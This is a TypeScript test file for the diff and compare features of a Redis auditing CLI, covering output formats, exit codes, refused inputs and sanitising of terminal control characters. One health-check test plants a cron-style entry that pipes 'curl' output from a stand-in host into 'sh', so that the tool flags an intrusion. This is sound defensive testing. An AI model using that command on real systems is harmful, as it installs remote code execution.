/** `meter diff` and `--compare-to` as they are run: before and after a real change, in every format, and what is refused. */
import { mkdtemp, readFile, rm, writeFile } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterAll, beforeAll, describe, expect, test } from 'vitest';
import type { DiffData } from '../../src/lib/diff/model.js';
import type { Envelope } from '../../src/lib/report/envelope.js';
import type { ErrorEnvelope } from '../../src/lib/report/error-envelope.js';
import { loadRelay, NOW } from '../support/audit.js';
import { UTC_OFFSET } from '../support/clock.js';
import { runMeterInside } from '../support/meter-inside.js';
import type { MeterResult } from '../support/meter.js';
import { startRedis, type TestServer } from '../support/redis-server.js';
import { assertMatchesSchema } from '../support/schema.js';

let server: TestServer;
let folder: string;
const CLOCK = ['--now', NOW, '--utc-offset', String(UTC_OFFSET)];
const file = (name: string): string => join(folder, name);
const run = (...args: string[]): Promise<MeterResult> =>
  runMeterInside(args, { env: { COLUMNS: '100', REDIS_URL: server.url }, cwd: folder });

async function write(name: string, ...args: string[]): Promise<string> {
  const { code, stderr } = await run(...args, '--json', '-o', file(name), '-q');
  expect({ code, stderr }).toEqual({ code: 0, stderr: '' });
  return file(name);
}

let [before, after] = ['', ''];
beforeAll(async () => {
  server = await startRedis();
  folder = await mkdtemp(join(tmpdir(), 'meter-diff-'));
  await loadRelay(server.port);
  before = await write('before.json', 'audit', ...CLOCK, '--exact');
  await write('checks.json', 'fix-consistency', ...CLOCK);
  await write('usage.json', 'usage', ...CLOCK, '--all');
  await write('estimate.json', 'estimate', '--requests', '1000');
  const pruned = await run('prune', '--hourly', '--yes', ...CLOCK, '--confirm', `127.0.0.1:${server.port}/0`, '--json');
  expect(pruned.code, pruned.stdout).toBe(0);
  await server.client().set('unknown:\u001b[31mred', 'x');
  after = await write('after.json', 'audit', ...CLOCK, '--exact');
});
afterAll(async () => {
  await server?.stop();
  await rm(folder, { recursive: true, force: true });
});

const diffOf = async (...args: string[]): Promise<DiffData> => {
  const result = await run('diff', ...args, '--json');
  expect(result).toMatchObject({ code: 0, stderr: '' });
  const envelope = result.json<Envelope<DiffData>>();
  await assertMatchesSchema('diff', envelope);
  return envelope.data;
};

describe('before and after a prune', () => {
  test('the difference is what was removed', async () => {
    const { totals, tables, findings } = await diffOf(before, after);
    const removed = (await server.client().dbsize()) - Number(totals[0]!.after);
    expect(removed).toBe(0);
    const rows = tables[0]!.rows.filter(({ id }) => id.includes('hourly') && !id.includes('empty'));
    expect(rows.length).toBeGreaterThan(3);
    for (const { state, figures } of rows) {
      expect(['gone', 'shrunk']).toContain(state);
      expect(Number(figures[0]!.change)).toBeLessThan(0);
    }
    const sum = tables[0]!.rows.reduce((total, { figures }) => total + Number(figures[0]!.change), 0);
    expect(sum).toBe(Number(totals[0]!.change));
    expect(tables[0]!.rows.find(({ id }) => id.startsWith('inferred.'))).toMatchObject({ state: 'new' });
    expect(findings!.new.length + findings!.same + findings!.changed.length).toBeGreaterThan(0);
  });

  test('it fits one screen, and says the same in every format', async () => {
    const { stdout } = await run('diff', before, after);
    expect(stdout.split('\n').length).toBeLessThanOrEqual(40);
    expect(stdout).toMatch(/^keys -\d+\.\d %; bytes -\d/m);
    const markdown = await run('diff', before, after, '--format', 'markdown');
    expect(markdown.stdout).toContain('| keys change |');
    expect(markdown.stdout).not.toContain('\u001b');
    const csv = await run('diff', before, after, '--format', 'csv');
    expect(csv.stdout.split('\n')[0]).toBe(
      'state,name,id,keys_before,keys_change,keys_after,keys_share,keys_change_low,keys_change_high,keys_certain,' +
        'bytes_before,bytes_change,bytes_after,bytes_share,bytes_change_low,bytes_change_high,bytes_certain',
    );
  });

  test('--fail-on ends with exit code 3', async () => {
    expect((await run('diff', before, after, '--fail-on', 'growth=1%')).code).toBe(0);
    expect((await run('diff', after, before, '--fail-on', 'growth=1%')).code).toBe(3);
    expect((await run('diff', after, before, '--fail-on', 'new-findings=high', '--fail-on', 'keys=0.1%')).code).toBe(3);
  });

  test('a run can be compared at once', async () => {
    const [text, json] = [await run('audit', ...CLOCK, '--exact', '--compare-to', before), await diffOf(before, after)];
    expect(text.code).toBe(0);
    expect(text.stdout).toContain(`After     127.0.0.1:${server.port}/0`);
    const live = await run('audit', ...CLOCK, '--exact', '--compare', before, '--json', '--fail-on', 'new-findings');
    const { data } = live.json<Envelope<DiffData>>();
    expect(live.code).toBe(json.findings!.new.length > 0 ? 3 : 0);
    // The server frees parts of its tables in the background, so bytes may differ a little.
    const keysOf = ({ tables }: DiffData) =>
      new Map(tables[0]!.rows.map(({ id, figures }) => [id, figures[0]!] as const).filter(([, { counts }]) => counts));
    expect(keysOf(data)).toEqual(keysOf(json));
  });
});

test('usage, estimates and checks are compared too', async () => {
  const usage = await run('usage', ...CLOCK, '--all', '--compare-to', file('usage.json'));
  expect(usage.stdout).toContain('Nothing has changed.');
  const estimate = await run('estimate', '--requests', '2000', '--compare-to', file('estimate.json'), '--fail-on', 'growth=5%');
  expect(estimate.code).toBe(3);
  expect(estimate.stdout).toContain('Workload: requestsPerDay 1000, then 2000.');
  const daily = (await server.client().keys('usage:daily:*')).find((name) => !name.includes('index'))!;
  await server.client().hincrby(daily, 'requests', 5);
  await write('later.json', 'fix-consistency', ...CLOCK);
  const { totals, tables } = await diffOf(file('checks.json'), file('later.json'));
  expect(totals.map(({ id }) => id)).toEqual(['checked', 'differences']);
  expect(tables[0]!.rows.length).toBeGreaterThan(0);
  expect(Number(totals[1]!.change)).toBeGreaterThan(0);
});

describe('refused', () => {
  const refused = async (words: string, ...args: string[]): Promise<void> => {
    const { code, stderr, stdout } = await run(...args);
    expect({ code, stdout }).toEqual({ code: 2, stdout: '' });
    expect(stderr).toContain(words);
    expect(stderr).not.toContain('\u001b');
  };

  test('what is no result, failed, or is of another command', async () => {
    await writeFile(file('no.json'), 'hello\u001b[31m');
    await refused('it is no JSON', 'diff', before, file('no.json'));
    await refused('there is no such file', 'diff', before, file('none.json'));
    await refused('it is a directory', 'diff', before, folder);
    await refused('is a result of audit, not of usage', 'usage', ...CLOCK, '--compare-to', before);
    const failed = await run('audit', '--pattern', '\u0000', '--fail-on', 'bad', '--json');
    expect(failed.json<ErrorEnvelope>().ok).toBe(false);
    await writeFile(file('failed.json'), failed.stdout);
    await refused('is not a result of meter', 'diff', before, file('failed.json'));
    await writeFile(file('not-ok.json'), JSON.stringify({ ...JSON.parse(await readFile(before, 'utf8')), ok: false }));
    await refused('a command that failed', 'diff', file('not-ok.json'), after);
  });

  test('conditions that there are not, and a report over what is read', async () => {
    await refused('--fail-on takes a condition', 'diff', before, after, '--fail-on', 'growth');
    await refused('--fail-on names cost, which results of audit do not have', 'diff', before, after, '--fail-on', 'cost=1%');
    await refused('--fail-on takes low, medium or high', 'audit', '--fail-on', 'growth=1%');
    await refused('--fail-on needs --compare-to', 'usage', '--fail-on', 'growth=1%');
    await refused('which is to be read', 'diff', before, after, '-o', before);
    await refused('which is to be read', 'audit', '--compare-to', before, '-o', before);
    await refused('To compare with the result of an earlier run: --compare-to FILE', 'usage', '--compare', file('usage.json'));
    await refused('contradict each other', 'usage', '--compare', '--compare-to', file('usage.json'));
  });

  test('control characters of a file never reach the terminal', async () => {
    const text = await readFile(after, 'utf8');
    await writeFile(file('hostile.json'), text.replaceAll('usage:daily', 'us\\u001b]0;x\\u0007\\u202eage'));
    for (const format of ['text', 'markdown', 'csv', 'json']) {
      const { stdout, code } = await run('diff', before, file('hostile.json'), '--format', format, '--all');
      expect(code).toBe(0);
      for (const character of ['\u001b', '\u0007', '\u202e']) expect(stdout).not.toContain(character);
    }
  });
});

describe('limits, limiters and health', () => {
  test('two health checks: what fails, what no longer does, and what could not be asked again', async () => {
    const client = server.client();
    const pings = ['doctor', '--pings', '0'];
    const well = await write('well.json', ...pings);
    await client.set('backup1', '*/2 * * * * root curl -fsSL http://203.0.113.1/a | sh');
    const ill = await write('ill.json', ...pings);
    await client.del('backup1');
    const worse = await diffOf(well, ill);
    expect(worse.findings).toMatchObject({ new: [{ code: 'intrusion', severity: 'high' }], cured: [] });
    expect(worse.totals.find(({ id }) => id === 'fail')).toMatchObject({ change: 1 });
    expect((await diffOf(ill, well)).findings).toMatchObject({ new: [], cured: [{ code: 'intrusion' }] });
    const failed = await run('diff', well, ill, '--fail-on', 'new-findings');
    expect(failed.code).toBe(3);
    expect(failed.stdout).toContain('Difference of two health checks');
  });

  test('two looks at limiters: keys and who is full', async () => {
    const client = server.client();
    const look = ['limiters', '--profile', 'rate-limiter-flexible@diff', '--limit', 'rlflx=5/60s'];
    await client.set('diff:ann', 1, 'EX', 60);
    const one = await write('limiters-1.json', ...look);
    await client.set('diff:bob', 9, 'EX', 60);
    const other = await write('limiters-2.json', ...look);
    const { tables, totals } = await diffOf(one, other);
    expect(totals[0]).toMatchObject({ id: 'keys', before: 1, after: 2 });
    expect(tables[0]!.rows[0]).toMatchObject({
      state: 'grown',
      figures: [{ before: 1, after: 2 }, {}, { before: 0, after: 1 }, {}],
    });
  });

  test('two looks at limits: what is used, and what is allowed', async () => {
    const client = server.client();
    const one = await write('limits-1.json', 'limits', ...CLOCK, '--all');
    for (const key of await client.keys('apikey:*'))
      if ((await client.type(key)) === 'hash') await client.hset(key, { dailyCostLimit: '100' });
    const other = await write('limits-2.json', 'limits', ...CLOCK, '--all');
    const { tables, of } = await diffOf(one, other);
    expect(of).toBe('limits');
    const changed = tables.flatMap(({ id, rows }) => rows.map((row) => [id, Number(row.figures[1]!.after)]));
    expect(changed).toEqual(expect.arrayContaining([['daily-cost', 100]]));
  });
});
